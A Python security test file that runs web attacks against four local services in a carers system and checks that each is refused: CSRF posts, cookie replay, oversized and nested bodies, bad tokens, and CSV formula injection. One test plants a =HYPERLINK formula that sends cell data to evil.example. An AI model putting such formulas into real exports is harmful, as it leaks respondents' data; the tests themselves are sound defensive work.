"""Web attacks (issue 13, item 7) played against the four services running as processes:
cross-site posts riding the staff cookie, oversized and deeply nested bodies, text that is
not Unicode, a staff cookie replayed after sign-out, tokens that live for a century or were
issued for another service, and a spreadsheet formula typed into a consultation answer.

The stack serves plain HTTP on 127.0.0.1, where browsers accept ``Secure`` cookies; httpx's
cookie jar does not, so these tests carry cookies in the ``Cookie`` header themselves.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from http.cookies import SimpleCookie

import httpx

from shared.auth import SERVICES
from tests.security.conftest import Stack, example_identification, refused

SLUG = "draft-leicestershire-carers-strategy-2026"
ANSWERS = {
    "a": "Fairly well",
    "c": "Tend to agree",
    "g": "A proper break once a week.",
    "respondent_type": "As a carer",
}


def _set_cookies(response: httpx.Response) -> dict[str, str]:
    """name -> the whole Set-Cookie line, for each cookie the response sets."""
    found = {}
    for line in response.headers.get_list("set-cookie"):
        found[line.split("=", 1)[0]] = line
    return found


def _cookie_value(line: str) -> str:
    jar: SimpleCookie = SimpleCookie()
    jar.load(line)
    return next(iter(jar.values())).value


def _staff_cookie(stack: Stack, service: str, token: str) -> tuple[str, str, str]:
    """Sign in at ``service``'s staff page as a browser would: (cookie header, csrf, staff)."""
    with stack.client(service) as browser:
        page = browser.get("/staff/sign-in")
        csrf_line = _set_cookies(page)["carers_csrf"]
        nonce = _cookie_value(csrf_line)
        found = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
        assert found
        signed_in = browser.post(
            "/staff/sign-in",
            data={"token": token, "csrf_token": found.group(1), "next": "/"},
            headers={"cookie": f"carers_csrf={nonce}"},
        )
    assert signed_in.status_code == 303, signed_in.text
    staff_line = _set_cookies(signed_in)["carers_staff_token"]
    for line in (csrf_line, staff_line):
        assert "secure" in line.lower() and "httponly" in line.lower(), line
        assert "samesite=strict" in line.lower(), line
    staff = _cookie_value(staff_line)
    return f"carers_csrf={nonce}; carers_staff_token={staff}", found.group(1), staff


def test_every_service_sends_the_security_headers(stack: Stack) -> None:
    pages = {
        "registry": "/self-service/tell-us",
        "referrals": "/staff/sign-in",
        "notifications": "/health",
        "consultation": f"/consultations/{SLUG}",
    }
    for service, path in pages.items():
        with stack.client(service) as client:
            answer = client.get(path)
        assert answer.status_code == 200, (service, path)
        csp = answer.headers["content-security-policy"]
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, service
        assert "'unsafe-inline'" not in csp, service
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["x-frame-options"] == "DENY"
        assert answer.headers["referrer-policy"] in ("same-origin", "no-referrer")
    refused("framing a page, sniffing a type or running another origin's script")


def test_cross_site_text_plain_posts_riding_the_staff_cookie_are_refused(stack: Stack) -> None:
    council = stack.token("council", "LCC")
    plain = {"content-type": "text/plain"}
    referrals_cookie, _, _ = _staff_cookie(stack, "referrals", stack.token("admin", "LCC"))
    consultation_cookie, _, _ = _staff_cookie(stack, "consultation", council)
    attacks = [
        ("referrals", "/referrals/00000000-0000-0000-0000-000000000001/accept", "{}"),
        ("referrals", "/referrals/00000000-0000-0000-0000-000000000001/withdraw", "{}"),
        ("consultation", f"/consultations/{SLUG}/themes/respite/decision", '{"action":"reject"}'),
        ("consultation", f"/consultations/{SLUG}/import", "Response ID,Channel\nx,online\n"),
        ("consultation", f"/consultations/{SLUG}/responses", json.dumps({"answers": ANSWERS})),
    ]
    for service, path, body in attacks:
        cookie = referrals_cookie if service == "referrals" else consultation_cookie
        with stack.client(service) as client:
            answer = client.post(path, content=body, headers={**plain, "cookie": cookie})
            assert answer.status_code == 403, (path, answer.status_code, answer.text)
            assert "csrf" in answer.text.lower(), answer.text
            # The same request from a partner's system with its bearer token is not a CSRF.
            honest = client.post(
                path,
                content=body,
                headers={**plain, "authorization": f"Bearer {stack.token('admin', 'LCC')}"},
            )
            assert honest.status_code != 403 or "csrf" not in honest.text.lower(), path
    refused("a cross-site text/plain POST riding the staff cookie (accept, themes, import)")


def test_a_cookie_signed_post_with_the_pages_token_in_a_header_is_accepted(stack: Stack) -> None:
    cookie, csrf, _ = _staff_cookie(stack, "referrals", stack.token("admin", "LCC"))
    with stack.client("referrals") as client:
        answer = client.post(
            "/referrals/00000000-0000-0000-0000-000000000001/accept",
            json={},
            headers={"cookie": cookie, "x-csrf-token": csrf},
        )
    assert answer.status_code == 404, answer.text  # past the CSRF check: no such referral


def test_a_staff_cookie_replayed_after_sign_out_is_refused(stack: Stack) -> None:
    cookie, csrf, _ = _staff_cookie(stack, "consultation", stack.token("council", "LCC"))
    with stack.client("consultation") as client:
        before = client.get(f"/consultations/{SLUG}/export.csv", headers={"cookie": cookie})
        assert before.status_code == 200
        out = client.post("/staff/sign-out", data={"csrf_token": csrf}, headers={"cookie": cookie})
        assert out.status_code == 303
        replayed = client.get(f"/consultations/{SLUG}/export.csv", headers={"cookie": cookie})
    assert replayed.status_code == 401, replayed.text
    refused("replaying a staff cookie copied before sign-out")


def test_oversized_bodies_are_413_however_they_are_sent(stack: Stack) -> None:
    eight_mb = json.dumps({"answers": {"g": "x" * (8 * 1024 * 1024)}})
    with stack.client("consultation") as client:
        declared = client.post(
            f"/consultations/{SLUG}/responses",
            content=eight_mb,
            headers={"content-type": "application/json"},
        )

        def chunks() -> Iterator[bytes]:
            for _ in range(2 * 1024):
                yield b"x" * 1024

        chunked = client.post(
            f"/consultations/{SLUG}/responses",
            content=chunks(),
            headers={"content-type": "application/json"},
        )
    assert declared.status_code == 413 and chunked.status_code == 413
    huge_id = example_identification()
    event = {
        "specversion": "1.0",
        "id": "x" * (1536 * 1024),
        "source": "urn:ods:C82001",
        "type": "carer.identified",
        "datacontenttype": "application/json",
        "data": huge_id,
    }
    with stack.client("registry", headers=stack.headers("gp", "C82001")) as registry:
        big = registry.post("/identifications", json=event)
    assert big.status_code == 413, big.status_code
    refused("an 8 MB consultation response, a 2 MB chunked upload and a 1.5 MB CloudEvent id")


def test_deeply_nested_json_and_lone_surrogates_are_422_naming_the_body(stack: Stack) -> None:
    deep = "[" * 50_000 + "]" * 50_000
    gp = stack.headers("gp", "C82001")
    for service, path, headers in (
        ("registry", "/identifications", gp),
        ("consultation", f"/consultations/{SLUG}/responses", {}),
        ("notifications", "/notifications/receipts", {}),
        ("referrals", "/referrals/x/accept", stack.headers("admin", "LCC")),
    ):
        with stack.client(service, headers=headers) as client:
            for content_type in ("application/json", "text/plain"):
                answer = client.post(path, content=deep, headers={"content-type": content_type})
                assert answer.status_code == 422, (service, content_type, answer.status_code)
                assert answer.json()["detail"][0]["loc"] == ["body"]
    body = json.dumps(example_identification()).replace(
        '"given_name": "', '"given_name": "\\ud800', 1
    )
    assert "\\ud800" in body
    with stack.client("registry", headers=gp) as registry:
        lone = registry.post(
            "/identifications", content=body, headers={"content-type": "application/json"}
        )
    assert lone.status_code == 422, lone.text
    assert lone.json()["detail"][0]["loc"] == ["body", "person", "given_name"]
    refused("50,000-deep JSON at every service and a lone surrogate in a name")


def test_a_century_long_token_and_a_token_for_another_service_are_refused(stack: Stack) -> None:
    century = stack.token("admin", "LCC", ttl=timedelta(days=36_500))
    probes = {
        "registry": "/reviews",
        "referrals": "/referrals",
        "notifications": "/notifications?carer_id=x",
        "consultation": f"/consultations/{SLUG}/results",
    }
    for service, path in probes.items():
        with stack.client(service) as client:
            answer = client.get(path, headers={"authorization": f"Bearer {century}"})
            assert answer.status_code == 401, (service, answer.status_code)
            others = [s for s in SERVICES if s != service]
            elsewhere = stack.token("admin", "LCC", services=others)
            answer = client.get(path, headers={"authorization": f"Bearer {elsewhere}"})
            assert answer.status_code == 401, (service, answer.status_code)
            own = stack.token("admin", "LCC", services=[service])
            answer = client.get(path, headers={"authorization": f"Bearer {own}"})
            assert answer.status_code != 401, (service, answer.text)
    refused("a 100-year token, and a token issued for another service, at all four services")


def test_a_spreadsheet_formula_in_an_answer_is_exported_as_text(stack: Stack) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"Click for your results")'
    response = {"channel": "online", "answers": {**ANSWERS, "h": formula}}
    with stack.client("consultation") as public:
        assert public.post(f"/consultations/{SLUG}/responses", json=response).status_code == 201
    with stack.client("consultation", headers=stack.headers("council", "LCC")) as council:
        export = council.get(f"/consultations/{SLUG}/export.csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    refused("a =HYPERLINK(...) answer reaching the officer's spreadsheet as a formula")
